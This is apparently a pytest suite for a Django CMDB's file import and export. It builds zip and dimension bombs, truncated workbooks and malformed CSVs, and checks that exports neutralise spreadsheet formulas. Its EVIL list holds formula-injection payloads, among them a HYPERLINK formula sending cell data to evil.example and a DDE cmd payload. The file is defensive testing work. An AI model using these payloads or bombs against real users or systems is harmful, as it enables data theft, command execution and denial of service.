"""Files built to hurt the import: each is refused with a message that names the problem, in
bounded memory, and writes nothing. And the export does not hand spreadsheet formulas around."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, OperationalError
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from opsdesk.cmdb import importer, jobs
from opsdesk.cmdb.models import ConfigurationItem, ImportJob, Relation
from opsdesk.core.generic.export import neutralise, unneutralise
from tests.factories import ConfigurationItemFactory

pytestmark = pytest.mark.django_db

MAIN_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEADER_ROW = ('<row r="1"><c r="A1" t="inlineStr"><is><t>customer</t></is></c>'
              '<c r="B1" t="inlineStr"><is><t>name</t></is></c><c r="C1" t="inlineStr"><is><t>kind</t></is></c></row>')
PEAK_LIMIT = 50 * 1024 * 1024


def xlsx_with_sheet(sheet_xml: bytes | Callable[[zipfile.ZipFile, str], None]) -> bytes:
    """A real workbook (openpyxl's) whose first sheet is replaced: by bytes, or by a writer that
    streams the member itself (for the compression bombs)."""
    buffer = io.BytesIO()
    Workbook().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info.filename, source.read(info))
            elif callable(sheet_xml):
                sheet_xml(target, info.filename)
            else:
                target.writestr(info.filename, sheet_xml)
    return out.getvalue()


def dimension_bomb() -> bytes:
    xml = (f'<worksheet {MAIN_NS}><dimension ref="A1:XFD1048576"/><sheetData>{HEADER_ROW}'
           '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>ALPHA</t></is></c></row>'
           '</sheetData></worksheet>')
    return xlsx_with_sheet(xml.encode())


def compression_bomb(unpacked_mb: int) -> bytes:
    def write(archive: zipfile.ZipFile, name: str) -> None:
        with archive.open(name, "w", force_zip64=True) as member:
            member.write(f"<worksheet {MAIN_NS}><sheetData>{HEADER_ROW}".encode())
            padding = b" " * (1 << 20)
            for _ in range(unpacked_mb):
                member.write(padding)
            member.write(b"</sheetData></worksheet>")

    return xlsx_with_sheet(write)


def xlsx(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def refused(user, filename: str, content: bytes) -> tuple[str, int]:
    """The error of importing through the service, and the peak memory it took."""
    before = ConfigurationItem.objects.count()
    tracemalloc.start()
    try:
        with pytest.raises(importer.ImportFileError) as caught:
            importer.import_items(user, filename, content, dry_run=False)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert ConfigurationItem.objects.count() == before
    return str(caught.value), peak


def post_ui(client, filename: str, content: bytes, **data):
    return client.post(reverse("cmdb:import"), {"file": SimpleUploadedFile(filename, content), "dry_run": "", **data})


def post_api(api, filename: str, content: bytes):
    return api.post("/api/cmdb/import/", {"file": SimpleUploadedFile(filename, content), "dry_run": "false"},
                    format="multipart")


# --- XLSX -------------------------------------------------------------------------------------

def test_a_dimension_bomb_is_refused_in_bounded_memory(admin, admin_client, admin_api, customer_a):
    content = dimension_bomb()
    assert len(content) < 6000
    message, peak = refused(admin, "bomb.xlsx", content)
    assert "beyond line 50001" in message and "50000 rows" in message
    assert peak < PEAK_LIMIT, f"peak {peak / 1e6:.0f} MB"
    page = post_ui(admin_client, "bomb.xlsx", content)
    assert page.status_code == 400 and "beyond line 50001" in page.content.decode()
    response = post_api(admin_api, "bomb.xlsx", content)
    assert response.status_code == 400 and "beyond line 50001" in response.json()["file"][0]
    assert not ConfigurationItem.objects.exists()


def test_a_sheet_that_claims_too_few_rows_still_shows_them_all(admin, customer_a):
    # The declared dimension is not trusted either way: rows below it are read.
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>ALPHA</t></is></c>'
                   f'<c r="B{n}" t="inlineStr"><is><t>h{n}</t></is></c>'
                   f'<c r="C{n}" t="inlineStr"><is><t>server</t></is></c></row>' for n in range(2, 6))
    content = xlsx_with_sheet(f'<worksheet {MAIN_NS}><dimension ref="A1:C2"/><sheetData>{HEADER_ROW}{rows}'
                              '</sheetData></worksheet>'.encode())
    report = importer.import_items(admin, "short.xlsx", content, dry_run=False)
    assert report.ok and report.created == 4


@pytest.mark.parametrize("unpacked_mb", [128, 1024])
def test_a_compression_bomb_is_refused_before_it_is_unpacked(admin, admin_api, customer_a, unpacked_mb):
    content = compression_bomb(unpacked_mb)
    assert len(content) < 1_500_000  # 1 GB in about 1 MB
    message, peak = refused(admin, "bomb.xlsx", content)
    assert f"unpacks to {unpacked_mb} MB" in message and "at most 100 MB" in message
    assert peak < PEAK_LIMIT, f"peak {peak / 1e6:.0f} MB"
    if unpacked_mb == 128:
        response = post_api(admin_api, "bomb.xlsx", content)
        # Over the inline size, so a job; the job fails with the cause named and forgets the file.
        assert response.status_code == 202
        job = ImportJob.objects.get(pk=response.json()["id"])
        jobs.run(job.pk)
        job.refresh_from_db()
        assert job.state == "failed" and "unpacks to 128 MB" in job.error and job.content == b""


def test_a_member_compressed_far_beyond_any_real_sheet_is_refused(admin, customer_a):
    message, _peak = refused(admin, "bomb.xlsx", compression_bomb(20))
    assert "compressed" in message and "times over" in message


def test_a_truncated_workbook_is_named_damaged(admin, admin_client, customer_a):
    good = xlsx([["customer", "name", "kind"], ["ALPHA", "x1", "server"]])
    for cut in (len(good) // 2, len(good) - 10, 50):
        message, _peak = refused(admin, "cut.xlsx", good[:cut])
        assert "damaged or cut off" in message
    page = post_ui(admin_client, "cut.xlsx", good[: len(good) // 2])
    assert page.status_code == 400 and "damaged or cut off" in page.content.decode()


def test_a_zip_with_too_many_parts_is_refused_before_its_directory_is_read(admin, customer_a):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(importer.MAX_ZIP_MEMBERS + 1):
            archive.writestr(f"x/{i}", b"")
    message, _peak = refused(admin, "many.xlsx", out.getvalue())
    assert "1001 parts" in message


def test_xml_that_is_not_a_workbook_is_refused(admin, customer_a):
    content = xlsx_with_sheet(b"<worksheet><sheetData><row r='1'><c r='A1'>\x00</c></row>")
    message, _peak = refused(admin, "broken.xlsx", content)
    assert "not a readable XLSX workbook" in message


# --- CSV --------------------------------------------------------------------------------------

def test_a_cell_larger_than_the_csv_module_takes_is_named_by_line_and_column(admin, admin_client, customer_a):
    content = ("customer,name,kind,description\nALPHA,ok,server,fine\n"
               f'ALPHA,big,server,"{"x" * 140_000}"\n').encode()
    message, _peak = refused(admin, "big.csv", content)
    assert message == "Line 3, column description: the cell has more than 32767 characters."
    with translation.override("zh-hans"):
        message, _peak = refused(admin, "big.csv", content)
    assert "第 3 行" in message and "description" in message
    # As a job (the file is over the inline limit) it fails at once, naming the cause.
    job = jobs.submit(admin, "big.csv", content, dry_run=False)
    jobs.run(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and "Line 3, column description" in job.error and job.content == b""
    assert not ConfigurationItem.objects.exists()


def test_a_cell_over_our_own_limit_is_refused_too(admin, customer_a):
    content = f"customer,name,kind\nALPHA,{'n' * 40_000},server\n".encode()
    message, _peak = refused(admin, "long.csv", content)
    assert message == "Line 2, column name: the cell has more than 32767 characters."


def test_an_unquoted_huge_cell_in_an_unnamed_column_is_named_by_letter(admin, customer_a):
    content = f"customer,name,kind\nALPHA,a,server,{'z' * 140_000}\n".encode()
    message, _peak = refused(admin, "wide.csv", content)
    assert message.startswith("Line 2, column D:")


def test_a_nul_byte_is_refused_with_line_and_column(admin, admin_client, customer_a):
    content = b"customer,name,kind\nALPHA,ok,server\nALPHA,bad\x00name,server\n"
    message, _peak = refused(admin, "nul.csv", content)
    assert message == "Line 3, column name: the cell contains a NUL character, which cannot be stored."
    page = post_ui(admin_client, "nul.csv", content)
    assert page.status_code == 400 and "NUL character" in page.content.decode()


def test_a_utf16_file_is_named_as_such(admin, customer_a):
    message, _peak = refused(admin, "u16.csv", "customer,name,kind\n".encode("utf-16"))
    assert "UTF-16" in message


@pytest.mark.parametrize("bom,encoding", [(b"\x84\x31\x95\x33", "gb18030"), (b"\xef\xbb\xbf", "utf-8")])
def test_a_byte_order_mark_does_not_hide_the_first_column(admin, customer_a, bom, encoding):
    content = bom + "客户,名称,类型\nALPHA,文件服务器,server\n".encode(encoding)
    report = importer.import_items(admin, "bom.csv", content, dry_run=False)
    assert report.ok, report.problems
    assert ConfigurationItem.objects.filter(name="文件服务器").exists()


def test_data_below_the_row_limit_is_refused_in_a_csv(admin, customer_a, monkeypatch):
    monkeypatch.setattr(importer, "MAX_ROWS", 3)
    ok = "customer,name,kind\n" + "".join(f"ALPHA,h{i},server\n" for i in range(3)) + "\n\n"
    assert importer.import_items(admin, "ok.csv", ok.encode(), dry_run=True).ok  # empty lines below: fine
    message, _peak = refused(admin, "long.csv", (ok + "ALPHA,h9,server\n").encode())
    assert "beyond line 4" in message


def test_nothing_in_the_file_is_dropped_silently(admin, customer_a):
    content = b"customer,name,kind,colour\nALPHA,a,server,red,extra\n"
    report = importer.import_items(admin, "x.csv", content, dry_run=True)
    assert report.ok
    assert [(w.line, w.field, w.value) for w in report.warnings] == [(1, "D", "colour"), (2, "E", "extra")]


def test_a_report_lists_at_most_so_many_problems(admin, customer_a, monkeypatch):
    monkeypatch.setattr(importer, "MAX_PROBLEMS", 5)
    content = ("customer,name,kind\n" + "".join(f"ALPHA,h{i},nokind\n" for i in range(12))).encode()
    report = importer.import_items(admin, "x.csv", content, dry_run=False)
    assert len(report.problems) == 5 and report.problems_omitted == 7 and report.problem_count == 12
    assert not ConfigurationItem.objects.exists()


# --- size limits: one for the page and the API ------------------------------------------------

def test_the_api_has_the_pages_size_limit(admin_api, admin_client, customer_a, monkeypatch):
    # A body announced over the limit is refused before it is read.
    response = admin_api.generic("POST", "/api/cmdb/import/", b"x", content_type="multipart/form-data; boundary=x",
                                 CONTENT_LENGTH=str(importer.MAX_UPLOAD_BYTES + 10**6))
    assert response.status_code == 413 and response.json() == {"file": ["The file is larger than 20 MB."]}
    page = admin_client.generic("POST", reverse("cmdb:import"), b"x", content_type="multipart/form-data; boundary=x",
                                CONTENT_LENGTH=str(importer.MAX_UPLOAD_BYTES + 10**6))
    assert page.status_code == 413 and "The file is larger than 20 MB." in page.content.decode()
    # A file over the limit, within a body that did not announce it, is refused by its size.
    monkeypatch.setattr(importer, "MAX_UPLOAD_BYTES", 100)
    content = b"customer,name,kind\n" + b"ALPHA,x,server\n" * 10
    response = post_api(admin_api, "items.csv", content)
    assert response.status_code == 413 and list(response.json()) == ["file"]
    assert post_ui(admin_client, "items.csv", content).status_code == 400
    message, _peak = refused(None, "items.csv", content)
    assert "larger than" in message
    assert not ImportJob.objects.exists()


def test_an_xlsx_that_unpacks_large_goes_to_a_worker(admin, customer_a, monkeypatch):
    content = xlsx([["customer", "name", "kind"], ["ALPHA", "x1", "server"]])
    assert not jobs.needs_worker("a.xlsx", content)
    monkeypatch.setattr(jobs, "INLINE_MAX_UNPACKED_BYTES", 1000)
    assert jobs.needs_worker("a.xlsx", content)


# --- jobs end with their cause ----------------------------------------------------------------

def test_a_job_that_crashes_ends_failed_with_the_cause_and_without_the_file(admin, customer_a, monkeypatch):
    def boom(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(importer, "import_items", boom)
    job = jobs.submit(admin, "x.csv", b"customer,name,kind\nALPHA,x,server\n", dry_run=False)
    jobs.run(job.pk)
    job.refresh_from_db()
    assert job.state == "failed" and "RuntimeError: disk on fire" in job.error and job.content == b""


def test_a_job_whose_database_was_busy_is_tried_again_then_fails_with_the_cause(admin, customer_a, monkeypatch):
    def busy(*args, **kwargs):
        raise OperationalError("database is locked")

    monkeypatch.setattr(importer, "import_items", busy)
    job = jobs.submit(admin, "x.csv", b"customer,name,kind\nALPHA,x,server\n", dry_run=False)
    for attempt in range(1, jobs.MAX_ATTEMPTS + 1):
        jobs.run(job.pk)
        job.refresh_from_db()
        if attempt < jobs.MAX_ATTEMPTS:
            assert job.state == "queued" and "database is locked" in job.error and job.content != b""
    assert job.state == "failed" and "database is locked" in job.error and job.content == b""


# --- concurrent imports -----------------------------------------------------------------------

def test_an_item_created_by_another_import_meanwhile_is_updated_not_duplicated(admin, customer_a, monkeypatch):
    real_write, real_adopt = importer._write, importer._adopt_existing
    calls = []

    def other_import_first(*args):
        # Another import created web01 between this import's check and its write...
        ConfigurationItemFactory(customer=customer_a, name="web01")
        return real_write(*args)

    def unseen_at_first(batch):
        # ...and the first attempt does not see it (as on PostgreSQL, where both inserts run at
        # once): the insert fails on the unique name, and the batch is tried again.
        calls.append(len(batch))
        return None if len(calls) == 1 else real_adopt(batch)

    monkeypatch.setattr(importer, "_write", other_import_first)
    monkeypatch.setattr(importer, "_adopt_existing", unseen_at_first)
    report = importer.import_items(admin, "x.csv", b"customer,name,kind\nALPHA,web01,server\nALPHA,web02,server\n",
                                   dry_run=False)
    assert report.ok and len(calls) == 2
    assert (report.created, report.updated) == (1, 1)
    assert ConfigurationItem.objects.filter(name="web01").count() == 1


def test_the_page_answers_a_race_it_cannot_win_with_a_message(admin_client, customer_a, monkeypatch):
    def lost(*args, **kwargs):
        raise IntegrityError("UNIQUE constraint failed")

    monkeypatch.setattr(importer, "import_items", lost)
    page = post_ui(admin_client, "x.csv", b"customer,name,kind\nALPHA,x,server\n")
    assert page.status_code == 409 and "at the same time" in page.content.decode()

    def conflict(*args, **kwargs):
        raise importer.ImportConflictError("Another change to the same items got in the way")

    monkeypatch.setattr(importer, "import_items", conflict)
    assert post_ui(admin_client, "x.csv", b"customer,name,kind\nALPHA,x,server\n").status_code == 409


# --- short transactions -----------------------------------------------------------------------

def test_the_write_goes_in_batches_and_a_rerun_finishes_a_cut_import(admin, customer_a, monkeypatch):
    monkeypatch.setattr(importer, "BATCH_SIZE", 2)
    text = ("customer,name,kind,runs_on\n" + "".join(f"ALPHA,h{i},server,{'h0' if i else ''}\n" for i in range(5)))
    batches = []

    def die_after_two(*args) -> None:
        batches.append(ConfigurationItem.objects.count())
        if len(batches) == 2:
            raise SystemExit("worker killed")

    with pytest.raises(SystemExit):
        importer.import_items(admin, "x.csv", text.encode(), dry_run=False, progress=die_after_two)
    assert batches == [2, 4] and ConfigurationItem.objects.count() == 4  # two batches committed
    report = importer.import_items(admin, "x.csv", text.encode(), dry_run=False)
    assert report.ok and (report.created, report.updated, report.relations_created) == (1, 4, 4)
    assert ConfigurationItem.objects.count() == 5 and Relation.objects.count() == 4


def test_a_bad_row_at_the_end_writes_nothing_even_in_batches(admin, customer_a, monkeypatch):
    monkeypatch.setattr(importer, "BATCH_SIZE", 2)
    text = "customer,name,kind\n" + "".join(f"ALPHA,h{i},server\n" for i in range(7)) + "ALPHA,bad,nokind\n"
    report = importer.import_items(admin, "x.csv", text.encode(), dry_run=False)
    assert not report.ok and not ConfigurationItem.objects.exists()


# --- export: no formulas handed around ----------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
        "\tstarts with a tab", "'=already quoted", "plain", "'not a formula"]


def test_neutralise_and_unneutralise_are_inverse():
    for value in EVIL:
        assert unneutralise(neutralise(value)) == value
    assert neutralise("=1+1") == "'=1+1" and neutralise("plain") == "plain" and neutralise("'=x") == "''=x"


def evil_items(customer) -> None:
    # Leading tabs and CRs are neutralised too (above), but names and descriptions are stored
    # stripped, so they cannot be in the database to begin with.
    for i, text in enumerate(v for v in EVIL if not v.startswith(("\t", "\r"))):
        ConfigurationItemFactory(customer=customer, name=f"item {i} {text.strip()}"[:200] if i else text,
                                 description=text)


def test_the_csv_export_neutralises_formulas_and_imports_back_exactly(admin_client, admin, customer_a):
    evil_items(customer_a)
    before = {ci.name: ci.description for ci in ConfigurationItem.objects.all()}
    response = admin_client.get(reverse("cmdb:configurationitem_list"), {"export": "csv"})
    exported = b"".join(response.streaming_content)
    cells = [c for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    ConfigurationItem.objects.all().delete()
    report = importer.import_items(admin, "export.csv", exported, dry_run=False)
    assert report.ok and not report.warnings, (report.problems, report.warnings)
    assert {ci.name: ci.description for ci in ConfigurationItem.objects.all()} == before


def test_the_xlsx_export_writes_text_never_formulas_and_imports_back_exactly(admin_client, admin, customer_a):
    evil_items(customer_a)
    before = {ci.name: ci.description for ci in ConfigurationItem.objects.all()}
    response = admin_client.get(reverse("cmdb:configurationitem_list"), {"export": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    ConfigurationItem.objects.all().delete()
    report = importer.import_items(admin, "export.xlsx", response.content, dry_run=False)
    assert report.ok and not report.warnings, (report.problems, report.warnings)
    assert {ci.name: ci.description for ci in ConfigurationItem.objects.all()} == before


def test_a_formula_without_a_value_is_kept_as_text_with_a_warning_and_errors_are_problems(admin, customer_a):
    # What exports made before the fix contain: live formulas no spreadsheet has computed.
    content = xlsx([["customer", "name", "kind", "description"], ["ALPHA", "x1", "server", "=HYPERLINK(\"h\")"]])
    report = importer.import_items(admin, "old.xlsx", content, dry_run=False)
    assert report.ok and [(w.line, w.field) for w in report.warnings] == [(2, "description")]
    assert ConfigurationItem.objects.get(name="x1").description == '=HYPERLINK("h")'
    rows = ('<row r="2"><c r="A2" t="inlineStr"><is><t>ALPHA</t></is></c><c r="B2" t="e"><f>FOO()</f>'
            '<v>#NAME?</v></c><c r="C2" t="inlineStr"><is><t>server</t></is></c></row>')
    content = xlsx_with_sheet(f"<worksheet {MAIN_NS}><sheetData>{HEADER_ROW}{rows}</sheetData></worksheet>".encode())
    report = importer.import_items(admin, "err.xlsx", content, dry_run=False)
    assert [(p.line, p.field, p.value) for p in report.problems] == [(2, "name", "#NAME?")]
    assert ConfigurationItem.objects.count() == 1


def test_the_csv_export_shows_times_in_the_persons_time_zone(admin_client, admin, customer_a):
    # The CSV body is streamed after the middleware reset the zone; it must not fall back to UTC.
    admin.time_zone = "Asia/Tokyo"
    admin.save()
    created = customer_a.created_at
    response = admin_client.get(reverse("core:customer_list"), {"export": "csv"})
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    import zoneinfo

    local = created.astimezone(zoneinfo.ZoneInfo("Asia/Tokyo")).replace(tzinfo=None)
    assert str(local)[:16] in body
    xlsx_body = admin_client.get(reverse("core:customer_list"), {"export": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(xlsx_body)).active
    assert any(str(c.value)[:16] == str(local)[:16] for row in sheet.iter_rows() for c in row)


def test_control_characters_do_not_break_the_xlsx_export(admin_client, customer_a):
    ConfigurationItemFactory(customer=customer_a, name="bell", description="ring\x07ring")
    response = admin_client.get(reverse("cmdb:configurationitem_list"), {"export": "xlsx"})
    assert response.status_code == 200
    cells = [c.value for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in row]
    assert "ring\ufffdring" in cells


def test_the_size_check_before_the_body_keeps_the_csrf_check(admin, customer_a):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(admin)
    response = client.post(reverse("cmdb:import"), {"file": SimpleUploadedFile("x.csv", b"customer,name,kind\n")})
    assert response.status_code == 403
